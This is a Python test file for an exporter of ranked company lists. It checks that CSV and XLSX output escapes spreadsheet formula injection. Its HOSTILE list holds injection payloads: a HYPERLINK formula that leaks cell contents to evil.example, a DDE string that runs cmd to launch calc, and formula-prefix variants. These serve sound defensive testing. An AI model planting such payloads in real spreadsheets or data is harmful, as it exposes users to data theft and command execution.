"""List files open safely in a spreadsheet: no formula is ever stored, CSV carries a BOM."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from discovery.ranking import MENTIONS, RankedList, write_list
from graph.errors import UsageError

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def hostile_list() -> RankedList:
    n = len(HOSTILE)
    frame = pd.DataFrame(
        {
            "rank": range(1, n + 1),
            "uscc": [f"91440305MA5F0000{i:02d}" for i in range(n)],
            "name": HOSTILE,
            "region_code": ["440305"] * n,
            "industry_code": ["C3976"] * n,
            "tier": "specialized_sme",
            "score": [0.9 - 0.1 * i for i in range(n)],
            "reasons": [f"{h}；深圳市测试科技有限公司" for h in reversed(HOSTILE)],
            MENTIONS: [(("91440305MA5F000099", "某公司"),)] * n,
        }
    )
    return RankedList("specialized_sme", date(2025, 12, 31), "m-1", frame, [], {"note": "=1+2"})


def test_csv_has_a_bom_neutralised_text_and_no_internal_column(tmp_path: Path) -> None:
    path = write_list(hostile_list(), tmp_path / "list.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == len(HOSTILE) + 1  # one per row; the cell's CR is quoted
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert MENTIONS not in back.columns
    assert back["name"].tolist() == [f"'{h}" for h in HOSTILE]
    assert back["reasons"].tolist() == [f"'{h}；深圳市测试科技有限公司" for h in reversed(HOSTILE)]
    for column in back.columns:
        assert not back[column].str.match(r"[=+\-@\t\r]").any(), column
    assert back["score"].astype(float).tolist() == pytest.approx([0.9 - 0.1 * i for i in range(6)])


def test_xlsx_stores_text_never_formulas(tmp_path: Path) -> None:
    path = write_list(hostile_list(), tmp_path / "list.xlsx")
    book = openpyxl.load_workbook(path)
    kinds = {
        cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    }
    assert "f" not in kinds
    sheet = book["邀请名单 list"]
    header = [c.value for c in sheet[1]]
    assert MENTIONS not in header
    names = [row[header.index("name")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    # XML keeps no bare carriage return: it reads back as a line feed
    assert names == [f"'{h}".replace("\r", "\n") for h in HOSTILE]
    about = {r[0]: r[1] for r in book["概况 about"].iter_rows(min_row=2, values_only=True)}
    assert about["note"] == "'=1+2"
    assert sheet.cell(row=2, column=header.index("score") + 1).data_type == "n"


def test_an_unknown_suffix_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"\.csv or \.xlsx"):
        write_list(hostile_list(), tmp_path / "new" / "list.txt")
    assert not (tmp_path / "new").exists()
